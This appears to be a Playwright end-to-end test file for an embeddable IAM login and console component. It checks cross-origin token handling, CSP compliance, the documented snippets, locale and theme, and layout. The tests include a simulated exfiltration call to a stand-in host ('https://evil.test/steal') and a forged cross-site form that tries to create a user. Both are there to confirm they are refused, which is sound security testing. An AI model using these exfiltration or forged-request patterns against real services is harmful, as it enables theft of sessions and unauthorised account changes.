// The elements on a host page of another origin, in Chromium: token mode with a `token-name` the
// server does not use (the sign-in answer names the header), the host calling the API through
// iamFetch and reading who signed in while the token stays out of the DOM, storage and URLs, the
// captcha under a strict CSP (blob: images), the token-mode snippets of README.md and
// docs/deployment.md as written, each element's own locale and theme, the embedded
// console as tall as its container, and anonymous visits without a console error.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { ConsoleMessage, Page } from 'playwright-core';
import { ADMIN, ApiClient, freePort, launchBrowser, startServer } from './harness';
import { docBlock } from '../doc-blocks';

/** A second origin serving the pages below, each under its own CSP. */
const hostPort = await freePort();
const host = `http://127.0.0.1:${hostPort}`;
const iam = await startServer({ IAM_CORS_ORIGINS: host });
const browser = await launchBrowser();

// Strict: scripts and calls to the IAM server only, images from here or blob: (the captcha).
const tokenPageCsp = `default-src 'self'; script-src 'self' ${iam.url}; connect-src ${iam.url}; img-src 'self' blob:; style-src 'self'; base-uri 'none'; form-action 'self'`;
/** A documented snippet as written, its example IAM origin replaced by the test server's. */
const documented = (doc: string, language: string, marker: string) => docBlock(doc, language, marker).replaceAll('https://iam.example.com', iam.url);

const pages: Record<string, { csp?: string; body: string; type?: string }> = {
  '/token.html': {
    csp: tokenPageCsp,
    body: `<!doctype html><title>Shop</title>
<iam-login api-base="${iam.url}/api" auth-mode="token" token-name="x-shop-token"></iam-login>
<p id="who"></p><p id="profile"></p>
<script type="module" src="/host.js"></script>`,
  },
  '/host.js': {
    type: 'text/javascript',
    body: `import '${iam.url}/dist/login.js';
import { $session, iamFetch } from '${iam.url}/dist/core.js';
window.iamFetch = iamFetch;
window.successDetails = [];
document.querySelector('iam-login').addEventListener('iam-login-success', async (event) => {
  event.preventDefault();
  window.successDetails.push(JSON.stringify(event.detail));
  document.querySelector('#who').textContent = $session.get().user?.username ?? '';
  const answer = await (await iamFetch('/cas/session')).json();
  document.querySelector('#profile').textContent = answer.data.user.username;
});`,
  },
  // README's token-mode page and host script, and docs/deployment.md's host script, on one page.
  '/documented.html': {
    csp: tokenPageCsp,
    body: `<!doctype html><title>Shop</title>
${documented('README.md', 'html', 'auth-mode="token"')}
<script type="module" src="/readme-snippet.js"></script>
<script type="module" src="/deployment-snippet.js"></script>`,
  },
  '/readme-snippet.js': { type: 'text/javascript', body: documented('README.md', 'js', "iamFetch('/user/profile')") },
  '/deployment-snippet.js': { type: 'text/javascript', body: documented('docs/deployment.md', 'js', 'iamFetch') },
  '/form.html': {
    // The cross-site form of a hostile page: a POST without custom headers into a hidden frame.
    body: `<!doctype html><title>Form</title><iframe name="sink"></iframe>
<form method="post" action="${iam.url}/api/user" target="sink"><input name="username" value="forged_e2e"><input name="realName" value="Forged"><input name="token" value="guess"><button>Send</button></form>`,
  },
  '/locales.html': {
    body: `<!doctype html><title>Locales</title><style>.box { height: 420px; border: 1px solid }</style>
<iam-login id="login" api-base="${iam.url}/api" locale="zh" theme="light"></iam-login>
<div class="box"><iam-console id="english" api-base="${iam.url}/api" locale="en" routing="memory"></iam-console></div>
<div class="box"><iam-console id="unset" api-base="${iam.url}/api" routing="memory"></iam-console></div>
<script type="module" src="${iam.url}/dist/elements.js"></script>`,
  },
};

const hostServer: Server = createServer((request, response) => {
  const path = new URL(request.url ?? '/', host).pathname;
  if (path === '/favicon.ico') return void response.writeHead(204).end();
  const page = pages[path];
  if (!page) return void response.writeHead(404).end();
  response.writeHead(200, { 'content-type': page.type ?? 'text/html; charset=utf-8', ...(page.csp ? { 'content-security-policy': page.csp } : {}) });
  response.end(page.body);
});
await new Promise<void>((resolve) => hostServer.listen(hostPort, '127.0.0.1', resolve));
assert.equal((hostServer.address() as AddressInfo).port, hostPort);

after(async () => {
  await browser.close();
  await iam.stop();
  await new Promise((resolve) => hostServer.close(resolve));
});

/** A fresh page that records every console error (network errors included) and CSP violation. */
async function watchedPage() {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('console', (message: ConsoleMessage) => {
    if (message.type() === 'error') errors.push(`${message.text()} (${message.location().url})`);
  });
  page.on('pageerror', (error) => errors.push(`page: ${error.message}`));
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  return { page, context, errors };
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);

const admin = new ApiClient(iam.url);
await admin.signIn(ADMIN.username, ADMIN.password);

async function setCaptchaAlways(enabled: boolean) {
  const { version } = await admin.call<{ version: number }>('GET', '/settings/login');
  await admin.call('PUT', '/settings/login', { captchaEnabled: enabled, version });
}

// The captcha's answer cannot be read from its image: the test checks that the image renders, then
// signs in with the captcha switched off again.
test('token mode with token-name on another origin: sign-in, iamFetch and $session work; the token is nowhere in the page', async () => {
  await setCaptchaAlways(true);
  const { page, context, errors } = await watchedPage();
  try {
    const tokens = new Set<string>();
    page.on('request', (request) => {
      for (const [name, value] of Object.entries(request.headers())) if (name === 'token' || name === 'x-shop-token') tokens.add(`${name}=${value}`);
    });
    await page.goto(`${host}/token.html`);
    // The captcha renders under img-src 'self' blob: (fetched from the IAM server, shown as blob:).
    const captcha = page.locator('iam-login img');
    await captcha.waitFor();
    await page.waitForFunction(() => {
      const image = document.querySelector<HTMLImageElement>('iam-login img');
      return Boolean(image?.complete && image.naturalWidth > 0);
    });
    assert.match((await captcha.getAttribute('src')) ?? '', /^blob:/);
    assert.deepEqual(await violations(page), []);
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
    await setCaptchaAlways(false);
  }

  const second = await watchedPage();
  try {
    const sent: string[] = [];
    second.page.on('request', (request) => {
      const headers = request.headers();
      if (headers['x-shop-token'] || headers.token) sent.push(`${request.url()} x-shop-token=${headers['x-shop-token'] ?? ''} token=${headers.token ?? ''}`);
    });
    await second.page.goto(`${host}/token.html`);
    await second.page.getByLabel('Username').fill(ADMIN.username);
    await second.page.getByLabel('Password', { exact: true }).fill(ADMIN.password);
    await second.page.getByRole('button', { name: 'Sign in' }).click();
    await second.page.locator('#profile').filter({ hasText: ADMIN.username }).waitFor();
    assert.equal(await second.page.locator('#who').textContent(), ADMIN.username, '$session says who signed in');
    // The element sent the token in the header the server named (token), not in x-shop-token.
    assert.ok(sent.length >= 2, sent.join('\n'));
    const token = /token=(\S+)$/.exec(sent[0]!)?.[1] ?? '';
    assert.ok(token.length > 20, sent[0]);
    for (const line of sent) assert.match(line, / x-shop-token= token=\S+$/, line);
    // Nowhere the page can read it: markup, attributes, storage, URL, event details.
    const exposed = await second.page.evaluate(
      (secret) => ({
        html: document.documentElement.outerHTML.includes(secret),
        storage: JSON.stringify({ ...localStorage }).includes(secret) || JSON.stringify({ ...sessionStorage }).includes(secret),
        url: location.href.includes(secret),
        cookie: document.cookie.includes(secret),
        events: (window as unknown as { successDetails: string[] }).successDetails.some((detail) => detail.includes(secret)),
      }),
      token,
    );
    assert.deepEqual(exposed, { html: false, storage: false, url: false, cookie: false, events: false });
    // iamFetch sends the session only to the API.
    const refused = await second.page.evaluate(async () => {
      const iamFetch = (window as unknown as { iamFetch: (path: string) => Promise<Response> }).iamFetch;
      try {
        await iamFetch('https://evil.test/steal');
        return 'sent';
      } catch (error) {
        return (error as Error).message;
      }
    });
    assert.match(refused, /Not a path of the API/);
    assert.deepEqual(second.errors, []);
  } finally {
    await second.context.close();
  }
});

test('the token-mode snippets of README.md and docs/deployment.md run as written: anonymous before the sign-in, then who signed in and the profile', async () => {
  const { page, context, errors } = await watchedPage();
  try {
    const logged: string[] = [];
    page.on('console', (message: ConsoleMessage) => {
      if (message.type() === 'log') logged.push(message.text());
    });
    const profileAnswers: number[] = [];
    page.on('response', (response) => {
      if (response.url() === `${iam.url}/api/user/profile`) profileAnswers.push(response.status());
    });
    await page.goto(`${host}/documented.html`);
    await page.getByLabel('Username').fill(ADMIN.username);
    // docs/deployment.md's subscriber: the visitor is anonymous before anyone signs in (token mode).
    await page.waitForFunction(() => document.querySelector('iam-login form') !== null);
    await expectLogged(logged, (lines) => lines.includes('anonymous'), errors);
    await page.getByLabel('Password', { exact: true }).fill(ADMIN.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    // README's listener logs the profile's name, docs/deployment.md's the session's username.
    // (docs/deployment.md's listener logs before it reads the profile: both reads are waited for.)
    await expectLogged(
      logged,
      (lines) =>
        lines.some((line) => line.startsWith(`signed in as ${ADMIN.username} `)) &&
        lines.includes(`signed in as ${ADMIN.username}`) &&
        profileAnswers.length === 2,
      errors,
    );
    assert.ok(!logged.some((line) => line.includes('undefined')), logged.join('\n'));
    const statuses = logged.filter((line) => ['unknown', 'anonymous', 'authenticated'].includes(line));
    assert.deepEqual(statuses.slice(-2), ['anonymous', 'authenticated'], logged.join('\n'));
    assert.deepEqual(profileAnswers, [200, 200], 'both snippets read the profile');
    assert.deepEqual(await violations(page), []);
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});

/** Waits (at most 10 s) until the page's console lines satisfy `done`. */
async function expectLogged(lines: string[], done: (lines: string[]) => boolean, errors: string[]) {
  const deadline = Date.now() + 10_000;
  while (!done(lines)) {
    if (Date.now() > deadline) assert.fail(`the page logged:\n${lines.join('\n')}\nerrors:\n${errors.join('\n')}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

test('a cross-site form cannot use the token session', async () => {
  const { page, context } = await watchedPage();
  try {
    await page.goto(`${host}/form.html`);
    const answered = page.waitForResponse((response) => response.url() === `${iam.url}/api/user`);
    await page.getByRole('button', { name: 'Send' }).click();
    // Refused before anything runs: a form's content type (415) or its Origin (403).
    assert.ok([403, 415].includes((await answered).status()));
    const users = await admin.call<{ list: { username: string }[] }>('GET', '/user?size=100');
    assert.ok(users.list.length > 0 && !users.list.some((user) => user.username === 'forged_e2e'));
  } finally {
    await context.close();
  }
});

test('each element shows its own locale and theme; unset means English and dark', async () => {
  const { page, context, errors } = await watchedPage();
  try {
    await page.goto(`${host}/locales.html`);
    await page.locator('#login').getByRole('button', { name: '登录' }).waitFor();
    const english = page.locator('#english');
    const unset = page.locator('#unset');
    await english.getByRole('button', { name: 'Sign in' }).waitFor();
    await unset.getByRole('button', { name: 'Sign in' }).waitFor();
    // Still English once the Chinese texts of the sign-in form have loaded.
    await page.waitForTimeout(300);
    assert.equal(await english.getByRole('button', { name: 'Sign in' }).count(), 1);
    assert.equal(await unset.getByRole('button', { name: 'Sign in' }).count(), 1);
    assert.equal(await page.locator('#login').getByRole('button', { name: 'Sign in' }).count(), 0);
    const themes = await page.evaluate(() =>
      ['english', 'unset'].map((id) => document.getElementById(id)?.shadowRoot?.querySelector('[data-theme]')?.getAttribute('data-theme')),
    );
    assert.deepEqual(themes, ['dark', 'dark'], 'a light <iam-login> leaves the consoles dark');
    assert.equal(await page.evaluate(() => document.documentElement.lang), '', "embedded consoles leave the host page's <html lang> alone");
    const backgrounds = await page.evaluate(() =>
      [document.getElementById('login'), document.getElementById('english')].map((element) =>
        getComputedStyle(element!).getPropertyValue('--iam-color-surface').trim(),
      ),
    );
    assert.notEqual(backgrounds[0], backgrounds[1], 'the login is light, the console dark');
    assert.deepEqual(errors, [], 'no console error for the anonymous visitor');
  } finally {
    await context.close();
  }
});

test('the embedded console and its sign-in page are as tall as the container, not the viewport', async () => {
  const { page, context } = await watchedPage();
  try {
    await page.goto(`${host}/locales.html`);
    // Both consoles are measured, so both sign-in pages must have rendered.
    for (const id of ['#english', '#unset']) await page.locator(id).getByRole('button', { name: 'Sign in' }).waitFor();
    const heights = await page.evaluate(() => ['english', 'unset'].map((id) => Math.round(document.getElementById(id)!.getBoundingClientRect().height)));
    // The .box is 420 px high inside its border; the viewport is 900 px.
    assert.deepEqual(heights, [420, 420]);
    // The sign-in page fills the container and scrolls inside it, rather than being as tall as the
    // viewport and spilling under the next box (whose console then took the clicks).
    const pages = await page.evaluate(() =>
      ['english', 'unset'].map((id) =>
        Math.round(document.getElementById(id)!.shadowRoot!.querySelector('[part="login-page"]')!.getBoundingClientRect().height),
      ),
    );
    assert.deepEqual(pages, [420, 420]);
    await page.locator('#english').getByRole('button', { name: 'Sign in' }).click({ trial: true, timeout: 5000 });
  } finally {
    await context.close();
  }
});

test('an anonymous visit to the console and to the sign-in demo logs no console error', async () => {
  for (const path of ['/', '/operate/user', '/demo/login.html']) {
    const { page, context, errors } = await watchedPage();
    try {
      await page.goto(`${iam.url}${path}`);
      await page.getByLabel('Username').waitFor();
      await page.waitForTimeout(300);
      assert.deepEqual(errors, [], path);
    } finally {
      await context.close();
    }
  }
});
